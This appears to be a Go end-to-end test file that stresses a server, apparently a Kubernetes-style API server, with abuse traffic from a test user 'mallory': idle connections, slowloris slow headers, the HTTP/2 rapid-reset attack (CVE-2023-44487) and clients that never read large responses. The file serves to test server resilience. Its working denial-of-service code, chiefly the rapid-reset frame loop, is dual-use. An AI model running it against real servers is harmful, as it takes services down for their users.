package e2e

import (
	"bytes"
	"context"
	"crypto/tls"
	"errors"
	"fmt"
	"net"
	"os"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// dialAll opens n connections with dial, 50 at a time.
func (e *abuseEnv) dialAll(n int, dial func() (net.Conn, error)) []net.Conn {
	conns := make([]net.Conn, n)
	var wg sync.WaitGroup
	sem := make(chan struct{}, 50)
	var failed atomic.Int32
	for i := range conns {
		wg.Go(func() {
			sem <- struct{}{}
			defer func() { <-sem }()
			c, err := dial()
			if err != nil {
				failed.Add(1)
				return
			}
			conns[i] = c
		})
	}
	wg.Wait()
	if failed.Load() > 0 {
		e.t.Errorf("%d of %d connections could not be opened", failed.Load(), n)
	}
	return conns
}

// closedByServer counts connections the server has closed: a read returns
// at once with EOF or reset instead of timing out.
func closedByServer(conns []net.Conn) int {
	closed := 0
	buf := make([]byte, 512)
	for _, c := range conns {
		if c == nil {
			continue
		}
		_ = c.SetReadDeadline(time.Now().Add(10 * time.Millisecond))
		if _, err := c.Read(buf); err != nil && !errors.Is(err, os.ErrDeadlineExceeded) {
			closed++
		}
	}
	return closed
}

func closeAll(conns []net.Conn) {
	for _, c := range conns {
		if c != nil {
			c.Close()
		}
	}
}

// idleConnections opens n connections and sends nothing on them: half stop
// before the TLS handshake, half after it (HTTP/1.1, no request).
func (e *abuseEnv) idleConnections(n int) func() func() string {
	return func() func() string {
		tlsConfig, host := stallTLS(e.t, e.mallory, "http/1.1")
		raw := e.dialAll(n/2, func() (net.Conn, error) { return net.Dial("tcp", host) })
		handshaken := e.dialAll(n-n/2, func() (net.Conn, error) { return tls.Dial("tcp", host, tlsConfig) })
		began := time.Now()
		return func() string {
			saw := fmt.Sprintf("held %v; the server closed %d of %d before TLS, %d of %d after it",
				time.Since(began).Round(100*time.Millisecond), closedByServer(raw), len(raw), closedByServer(handshaken), len(handshaken))
			closeAll(raw)
			closeAll(handshaken)
			return saw
		}
	}
}

// slowHeaders opens n TLS connections and sends a request's headers on
// each one byte every half second, never finishing them (slowloris).
func (e *abuseEnv) slowHeaders(n int) func() func() string {
	return func() func() string {
		tlsConfig, host := stallTLS(e.t, e.mallory, "http/1.1")
		conns := e.dialAll(n, func() (net.Conn, error) { return tls.Dial("tcp", host, tlsConfig) })
		ctx, cancel := context.WithCancel(context.Background())
		var wg sync.WaitGroup
		var cut atomic.Int32
		for _, c := range conns {
			if c == nil {
				continue
			}
			wg.Go(func() {
				header := []byte("GET /api/v1/namespaces HTTP/1.1\r\nHost: " + host + "\r\nX-Slow: ")
				if _, err := c.Write(header); err != nil {
					cut.Add(1)
					return
				}
				for {
					select {
					case <-ctx.Done():
						return
					case <-time.After(500 * time.Millisecond):
					}
					if _, err := c.Write([]byte("a")); err != nil {
						cut.Add(1)
						return
					}
				}
			})
		}
		began := time.Now()
		return func() string {
			cancel()
			wg.Wait()
			saw := fmt.Sprintf("held %v; the server cut %d of %d", time.Since(began).Round(100*time.Millisecond), int(cut.Load())+closedByServer(conns), len(conns))
			closeAll(conns)
			return saw
		}
	}
}

// rapidReset opens conns HTTP/2 connections as mallory and on each sends
// HEADERS for a GET of the 8 MiB list or a proxied list and at once
// RST_STREAM, in a loop as fast as the connection takes them
// (CVE-2023-44487); a connection the server closes is opened again.
func (e *abuseEnv) rapidReset(conns int) func() func() string {
	return func() func() string {
		tlsConfig, host := stallTLS(e.t, e.mallory, "h2")
		ctx, cancel := context.WithCancel(context.Background())
		var streams, goaways, reconnects atomic.Int64
		var wg sync.WaitGroup
		for range conns {
			wg.Go(func() {
				for ctx.Err() == nil {
					n, goaway, err := resetLoop(ctx, tlsConfig, host, []string{e.listPath, e.sinkPath})
					streams.Add(n)
					if goaway {
						goaways.Add(1)
					}
					if err != nil && ctx.Err() == nil {
						reconnects.Add(1)
						time.Sleep(10 * time.Millisecond)
					}
				}
			})
		}
		for deadline := time.Now().Add(5 * time.Second); streams.Load() < 1000 && time.Now().Before(deadline); {
			time.Sleep(50 * time.Millisecond)
		}
		return func() string {
			cancel()
			wg.Wait()
			return fmt.Sprintf("%d streams opened and reset; %d GOAWAY; %d connections lost and reopened", streams.Load(), goaways.Load(), reconnects.Load())
		}
	}
}

// resetLoop is one rapid-reset connection: it returns how many streams it
// opened and reset, whether the server sent GOAWAY, and why it ended.
func resetLoop(ctx context.Context, tlsConfig *tls.Config, host string, paths []string) (int64, bool, error) {
	conn, err := tls.Dial("tcp", host, tlsConfig)
	if err != nil {
		return 0, false, err
	}
	defer conn.Close()
	stop := context.AfterFunc(ctx, func() { conn.Close() })
	defer stop()
	if _, err := conn.Write([]byte(http2.ClientPreface)); err != nil {
		return 0, false, err
	}
	framer := http2.NewFramer(conn, conn)
	var writeMu sync.Mutex
	write := func(f func() error) error {
		writeMu.Lock()
		defer writeMu.Unlock()
		return f()
	}
	if err := write(func() error { return framer.WriteSettings() }); err != nil {
		return 0, false, err
	}
	var goaway atomic.Bool
	go func() {
		for {
			frame, err := framer.ReadFrame()
			if err != nil {
				conn.Close()
				return
			}
			switch f := frame.(type) {
			case *http2.SettingsFrame:
				if !f.IsAck() {
					_ = write(framer.WriteSettingsAck)
				}
			case *http2.PingFrame:
				if !f.IsAck() {
					_ = write(func() error { return framer.WritePing(true, f.Data) })
				}
			case *http2.GoAwayFrame:
				goaway.Store(true)
			}
		}
	}()
	var block bytes.Buffer
	enc := hpack.NewEncoder(&block)
	var n int64
	for id := uint32(1); id < 1<<31 && ctx.Err() == nil; id += 2 {
		block.Reset()
		for _, f := range [][2]string{{":method", "GET"}, {":scheme", "https"}, {":authority", host}, {":path", paths[int(id/2)%len(paths)]}, {"accept", "application/json"}} {
			_ = enc.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]})
		}
		err := write(func() error {
			if err := framer.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block.Bytes(), EndStream: true, EndHeaders: true}); err != nil {
				return err
			}
			return framer.WriteRSTStream(id, http2.ErrCodeCancel)
		})
		if err != nil {
			return n, goaway.Load(), err
		}
		n++
	}
	return n, goaway.Load(), ctx.Err()
}

// neverReadList has n HTTP/1.1 clients and one HTTP/2 connection with n
// streams GET the 8 MiB list as mallory and never read the answers.
func (e *abuseEnv) neverReadList(n int) func() func() string {
	return func() func() string {
		var stalls []*stalledClient
		for range n {
			stalls = append(stalls, stallHTTP1(e.t, e.mallory, e.listPath))
		}
		stalls = append(stalls, stallHTTP2(e.t, e.mallory, e.listPath, n))
		time.Sleep(3 * time.Second) // the handlers list and block on their writes
		return func() string {
			resets := 0
			for _, s := range stalls {
				resets += int(s.resets.Load())
				s.Close()
			}
			return fmt.Sprintf("%d stalled requests held; %d HTTP/2 streams reset by the server meanwhile", 2*n, resets)
		}
	}
}
